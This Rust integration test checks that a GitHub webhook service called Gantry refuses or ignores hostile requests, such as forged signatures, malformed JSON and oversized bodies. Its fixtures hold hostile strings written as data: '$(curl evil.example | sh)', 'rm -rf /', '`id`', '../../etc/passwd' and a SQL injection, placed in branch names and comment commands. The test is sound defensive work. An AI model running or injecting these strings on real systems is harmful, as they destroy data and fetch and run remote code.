//! Hostile input, table-driven: bad, missing and truncated signatures, a wrong secret, oversized
//! bodies, bad encodings and JSON, deep nesting, wrong types, unknown events and actions, odd
//! branch names, and comment commands with shell metacharacters or huge option lists. Each gets
//! the right status (or, once stored, the right outcome) and a clear error; nothing is stored
//! that should not be; and the server stays healthy.

mod common;

use common::runs::{Harness, REPO, ROOT_WORKSPACE};
use common::{SECRET, fixture, push_payload};
use gantry::core::PrNumber;
use gantry::webhook::signature::sign;
use serde_json::{Value, json};

/// A request refused at the door: (name, headers, body, status, words the error must contain).
struct Refused {
    name: &'static str,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    status: u16,
    says: &'static str,
}

fn signed_headers(event: &str, delivery: &str, body: &[u8]) -> Vec<(&'static str, String)> {
    vec![
        ("X-GitHub-Event", event.to_string()),
        ("X-GitHub-Delivery", delivery.to_string()),
        ("X-Hub-Signature-256", sign(SECRET, body)),
        ("Content-Type", "application/json".to_string()),
    ]
}

fn with(
    mut headers: Vec<(&'static str, String)>,
    name: &'static str,
    value: Option<&str>,
) -> Vec<(&'static str, String)> {
    headers.retain(|(n, _)| *n != name);
    if let Some(value) = value {
        headers.push((name, value.to_string()));
    }
    headers
}

fn refused_at_the_door() -> Vec<Refused> {
    let body = br#"{"zen":"Keep it logically awesome.","hook_id":1}"#.to_vec();
    let good = |delivery: &str| signed_headers("push", delivery, &body);
    let good_sig = sign(SECRET, &body);
    let hex = good_sig.trim_start_matches("sha256=").to_string();
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes();
    let mut cases = vec![
        Refused {
            name: "no signature",
            headers: with(good("h-1"), "X-Hub-Signature-256", None),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "empty signature",
            headers: with(good("h-2"), "X-Hub-Signature-256", Some("")),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "no algorithm",
            headers: with(good("h-3"), "X-Hub-Signature-256", Some(&hex)),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "sha1 signature",
            headers: with(
                good("h-4"),
                "X-Hub-Signature-256",
                Some(&format!("sha1={}", &hex[..40])),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "truncated signature",
            headers: with(
                good("h-5"),
                "X-Hub-Signature-256",
                Some(&good_sig[..good_sig.len() - 10]),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "signature too long",
            headers: with(
                good("h-6"),
                "X-Hub-Signature-256",
                Some(&format!("{good_sig}00")),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "not hex",
            headers: with(
                good("h-7"),
                "X-Hub-Signature-256",
                Some(&format!("sha256={}", "zz".repeat(32))),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "upper-case hex of another body",
            headers: with(
                good("h-8"),
                "X-Hub-Signature-256",
                Some(&sign(SECRET, b"other").to_uppercase()),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "wrong secret",
            headers: with(
                good("h-9"),
                "X-Hub-Signature-256",
                Some(&sign("not-the-secret", &body)),
            ),
            body: body.clone(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "signature of another body",
            headers: good("h-10"),
            body: b"{\"zen\":\"changed\"}".to_vec(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "signed body with one byte more",
            headers: good("h-11"),
            body: [body.clone(), b" ".to_vec()].concat(),
            status: 401,
            says: "signature",
        },
        Refused {
            name: "no event header",
            headers: with(good("h-12"), "X-GitHub-Event", None),
            body: body.clone(),
            status: 400,
            says: "X-GitHub-Event",
        },
        Refused {
            name: "no delivery header",
            headers: with(good("h-13"), "X-GitHub-Delivery", None),
            body: body.clone(),
            status: 400,
            says: "X-GitHub-Delivery",
        },
        Refused {
            name: "empty delivery header",
            headers: with(good("h-14"), "X-GitHub-Delivery", Some("")),
            body: body.clone(),
            status: 400,
            says: "X-GitHub-Delivery",
        },
        Refused {
            name: "delivery id of 10 KB",
            headers: with(good("h-15"), "X-GitHub-Delivery", Some(&"d".repeat(10_000))),
            body: body.clone(),
            status: 400,
            says: "X-GitHub-Delivery",
        },
        Refused {
            name: "event name of 1 KB",
            headers: with(good("h-16"), "X-GitHub-Event", Some(&"e".repeat(1_000))),
            body: body.clone(),
            status: 400,
            says: "X-GitHub-Event",
        },
        Refused {
            name: "declared body over 25 MiB",
            headers: with(good("h-17"), "Content-Length", Some("26214401")),
            body: body.clone(),
            status: 413,
            says: "",
        },
        Refused {
            name: "text/plain body",
            headers: with(good("h-18"), "Content-Type", Some("text/plain")),
            body: body.clone(),
            status: 415,
            says: "",
        },
        Refused {
            name: "xml body",
            headers: with(good("h-19"), "Content-Type", Some("application/xml")),
            body: body.clone(),
            status: 415,
            says: "",
        },
    ];
    for (n, (name, bad, says)) in [
        ("invalid UTF-8", vec![0xff, 0xfe, b'{', b'}'], "JSON"),
        ("not JSON", b"hello".to_vec(), "JSON"),
        ("truncated JSON", br#"{"zen":"Keep"#.to_vec(), "JSON"),
        ("JSON nested 10,000 deep", deep, "JSON"),
        ("empty body", Vec::new(), "JSON"),
        (
            "a JSON string, not an object",
            br#""push""#.to_vec(),
            "JSON",
        ),
        (
            "repository of the wrong type",
            br#"{"repository": 5}"#.to_vec(),
            "JSON",
        ),
        (
            "installation id of the wrong type",
            br#"{"installation": {"id": "ninety-nine"}}"#.to_vec(),
            "JSON",
        ),
        (
            "action of the wrong type",
            br#"{"action": ["opened"]}"#.to_vec(),
            "JSON",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let headers = signed_headers("push", &format!("bad-{n}"), &bad);
        cases.push(Refused {
            name,
            headers,
            body: bad,
            status: 400,
            says,
        });
    }
    let form = b"not_payload=%7B%7D".to_vec();
    cases.push(Refused {
        name: "form body without payload=",
        headers: with(
            signed_headers("push", "f-1", &form),
            "Content-Type",
            Some("application/x-www-form-urlencoded"),
        ),
        body: form,
        status: 400,
        says: "payload",
    });
    let form = b"payload=%7Bnot-json".to_vec();
    cases.push(Refused {
        name: "form payload that is not JSON",
        headers: with(
            signed_headers("push", "f-2", &form),
            "Content-Type",
            Some("application/x-www-form-urlencoded"),
        ),
        body: form,
        status: 400,
        says: "JSON",
    });
    cases
}

/// Accepted at the door (well signed, well formed), then closed with a clear outcome:
/// (name, event, payload, outcome, words the detail must contain).
fn accepted_then_judged() -> Vec<(
    &'static str,
    &'static str,
    Vec<u8>,
    &'static str,
    &'static str,
)> {
    let push = |branch: &str| push_payload(REPO, branch, &"1".repeat(40), &["main.tf"], |_| {});
    vec![
        (
            "an unknown event",
            "flying_saucer",
            br#"{"action":"landed"}"#.to_vec(),
            "ignored",
            "does not use flying_saucer",
        ),
        (
            "an unknown pull_request action",
            "pull_request",
            {
                let mut p: Value =
                    serde_json::from_slice(&fixture("webhooks/pull_request.opened.json")).unwrap();
                p["action"] = "teleported".into();
                p["repository"]["full_name"] = REPO.into();
                p["pull_request"]["base"]["ref"] = "main".into();
                p["repository"]["default_branch"] = "main".into();
                p["installation"] = json!({ "id": 99 });
                serde_json::to_vec(&p).unwrap()
            },
            "ignored",
            "teleported",
        ),
        (
            "a push missing its ref",
            "push",
            {
                let mut p: Value = serde_json::from_slice(&push("main")).unwrap();
                p.as_object_mut().unwrap().remove("ref");
                serde_json::to_vec(&p).unwrap()
            },
            "failed",
            "ref",
        ),
        (
            "a push whose commits are a string",
            "push",
            {
                let mut p: Value = serde_json::from_slice(&push("main")).unwrap();
                p["commits"] = "lots".into();
                serde_json::to_vec(&p).unwrap()
            },
            "failed",
            "commits",
        ),
        (
            "a branch with shell metacharacters",
            "push",
            push("$(rm -rf /);`id`|&&"),
            "ignored",
            "no workspace tracks branch $(rm -rf /)",
        ),
        (
            "a branch with quotes and newlines",
            "push",
            push("a\"b'\nc"),
            "ignored",
            "no workspace tracks branch",
        ),
        (
            "a branch of 4 KB",
            "push",
            push(&"b".repeat(4096)),
            "ignored",
            "no workspace tracks branch",
        ),
        (
            "a branch with unicode and NUL",
            "push",
            push("é\u{0}ß"),
            "ignored",
            "no workspace tracks branch",
        ),
        (
            "a tag",
            "push",
            {
                let mut p: Value = serde_json::from_slice(&push("main")).unwrap();
                p["ref"] = "refs/tags/../../etc/passwd".into();
                serde_json::to_vec(&p).unwrap()
            },
            "ignored",
            "is not a branch",
        ),
        (
            "a re-run of a check run that is not Gantry's",
            "check_run",
            {
                let mut p: Value =
                    serde_json::from_slice(&fixture("webhooks/check_run.rerequested.json"))
                        .unwrap();
                p["check_run"]["external_id"] = "'; DROP TABLE runs; --".into();
                serde_json::to_vec(&p).unwrap()
            },
            "ignored",
            "not one of Gantry's runs",
        ),
        (
            "an edited comment",
            "issue_comment",
            fixture("webhooks/issue_comment.edited.json"),
            "ignored",
            "only new comments carry commands",
        ),
        (
            "an issue comment that is not on a pull request",
            "issue_comment",
            fixture("webhooks/issue_comment.created.json"),
            "ignored",
            "not on a pull request",
        ),
    ]
}

fn command_comment(delivery: u64, body: &str) -> Vec<u8> {
    let mut p: Value =
        serde_json::from_slice(&fixture("webhooks/issue_comment.created.json")).unwrap();
    p["issue"]["number"] = 7.into();
    p["issue"]["pull_request"] = json!({ "url": "https://api.github.com/x" });
    p["comment"]["id"] = delivery.into();
    p["comment"]["body"] = body.into();
    p["comment"]["user"]["login"] = "alice".into();
    p["repository"]["full_name"] = REPO.into();
    p["installation"] = json!({ "id": 99 });
    serde_json::to_vec(&p).unwrap()
}

#[tokio::test]
async fn hostile_requests_and_payloads_get_clear_answers_and_change_nothing_they_should_not() {
    let h = Harness::without_runner(ROOT_WORKSPACE).await;
    let mut tried = 0;

    for case in refused_at_the_door() {
        let headers: Vec<(&str, &str)> =
            case.headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let delivery = case
            .headers
            .iter()
            .find(|(k, _)| *k == "X-GitHub-Delivery")
            .map(|(_, v)| v.clone());
        let response = h.gantry.post_webhook(&headers, case.body).await;
        assert_eq!(response.status().as_u16(), case.status, "{}", case.name);
        let text = response.text().await.unwrap();
        assert!(
            text.to_lowercase().contains(&case.says.to_lowercase()),
            "{}: the error says what is wrong: {text}",
            case.name
        );
        assert!(!text.contains(SECRET), "{}", case.name);
        if let Some(delivery) = delivery.filter(|d| !d.is_empty() && d.len() < 200) {
            assert!(
                h.gantry.delivery(&delivery).await.is_none(),
                "{}: nothing stored",
                case.name
            );
        }
        tried += 1;
    }

    for (n, (name, event, payload, outcome, says)) in accepted_then_judged().into_iter().enumerate()
    {
        let delivery = format!("judged-{n}");
        let response = h.gantry.send(event, &delivery, &payload).await;
        assert_eq!(response.status(), 202, "{name}");
        let done = h.gantry.wait_for_outcome(&delivery).await;
        assert_eq!(done.status, outcome, "{name}: {done:?}");
        let detail = done.outcome_detail.unwrap_or_default();
        assert!(detail.contains(says), "{name}: {detail}");
        tried += 1;
    }

    // Comment commands from a writer: metacharacters and huge option lists start nothing and
    // get the usage back.
    h.gantry.github.grant(REPO, "alice", "write");
    let huge = format!("/gantry plan {}", "-w a ".repeat(5_000));
    for (n, body) in [
        "/gantry plan -w \"$(curl evil.example | sh)\"",
        "/gantry plan -w prod;rm -rf /",
        "/gantry plan -w ../../etc/passwd",
        "/gantry retry --workspace=`id`",
        "/gantry plan -w",
        "/gantry apply",
        "/gantry",
        huge.as_str(),
        "/gantry plan\u{0}-w prod",
    ]
    .into_iter()
    .enumerate()
    {
        let delivery = format!("cmd-{n}");
        let response = h
            .gantry
            .send(
                "issue_comment",
                &delivery,
                &command_comment(1000 + n as u64, body),
            )
            .await;
        assert_eq!(response.status(), 202, "{body}");
        let done = h.gantry.wait_for_outcome(&delivery).await;
        assert_eq!(done.status, "processed", "{body}: {done:?}");
        tried += 1;
    }
    let started = h
        .gantry
        .store
        .pull_request_runs(REPO, PrNumber(7))
        .await
        .unwrap();
    assert!(started.is_empty(), "no command started a plan: {started:?}");

    // Still healthy, and it still does its job.
    assert_eq!(h.gantry.get("/readyz").await.status(), 200);
    let fine = push_payload(REPO, "main", &"2".repeat(40), &["main.tf"], |_| {});
    assert_eq!(
        h.gantry
            .send("push", "after-all-that", &fine)
            .await
            .status(),
        202
    );
    assert_eq!(
        h.gantry.wait_for_outcome("after-all-that").await.status,
        "processed"
    );
    assert!(tried >= 50, "{tried} hostile inputs tried");
    println!("{tried} hostile inputs tried");
}
